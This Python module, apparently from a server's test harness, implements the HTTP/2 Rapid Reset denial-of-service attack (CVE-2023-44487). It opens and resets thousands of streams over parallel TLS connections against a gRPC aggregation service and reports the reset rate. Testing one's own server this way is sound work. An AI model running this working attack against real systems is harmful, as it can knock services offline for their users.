"""Streams that are opened and reset at once (CVE-2023-44487)."""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from collections import Counter
from typing import Any

from hyperframe.frame import SettingsFrame

from secagg.wire._pb import service_pb2 as api

from . import frames
from .line import AGGREGATION, Ready, Spec, answer, attempted, connect, tls

BATCH = 250
"""Streams reset between two questions whether the server has read so far."""
STREAMS = 10_000
"""Streams reset on one connection, before another one takes its place."""
GIVE_UP_SECONDS = 60.0


def reset_batches(session: bytes) -> list[bytes]:
    """Streams that are opened and reset, by turns a mere opening and a whole request."""
    block = frames.headers(f"{AGGREGATION}ListResults")
    message = api.ListResultsRequest(session_id=session).SerializeToString()

    def stream(number: int) -> bytes:
        whole = number % 4 == 1
        begun = frames.request(number, block, message) if whole else frames.opening(number, block)
        return begun + frames.reset(number)

    numbers = range(1, 2 * STREAMS, 2)
    return [
        b"".join(map(stream, numbers[at : at + BATCH])) + frames.SETTINGS
        for at in range(0, STREAMS, BATCH)
    ]


def resets(spec: Spec, ready: Ready, stop: threading.Event) -> dict[str, Any]:
    """Open and reset streams as fast as the server reads them, so many and then no more.

    It ends by itself; only the report waits for the parent.
    """
    batches = reset_batches(bytes.fromhex(spec["session"]))
    context, seen = tls(spec), Counter[str]()

    async def one_connection() -> None:
        reader, writer = await connect(spec, context)
        seen["connections"] += 1
        incoming = frames.Incoming()
        try:
            writer.write(frames.PREFACE)
            await acknowledged(reader, writer, incoming, seen)
            for batch in batches:
                if seen["resets"] >= spec["resets"]:
                    return
                writer.write(batch)
                await acknowledged(reader, writer, incoming, seen)
                seen["resets"] += BATCH
        finally:
            writer.close()

    async def enough() -> None:
        while seen["resets"] < spec["resets"]:
            await attempted(seen, one_connection)

    async def work() -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(GIVE_UP_SECONDS), asyncio.TaskGroup() as group:
                for _ in range(spec["reset_connections"]):
                    group.create_task(enough())

    ready()
    began = time.monotonic()
    asyncio.run(work())
    ended = time.monotonic()
    rate = seen["resets"] / (ended - began)
    return {"seen": seen, "began": began, "ended": ended, "per_second": round(rate)}


async def acknowledged(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    incoming: frames.Incoming,
    seen: Counter[str],
) -> None:
    """Read until the server has answered our settings: then it has read all that came before."""
    while True:
        received = await reader.read(65536)
        if not received:
            raise EOFError
        for frame in incoming.feed(received):
            answer(frame, writer, seen)
            if isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
                return
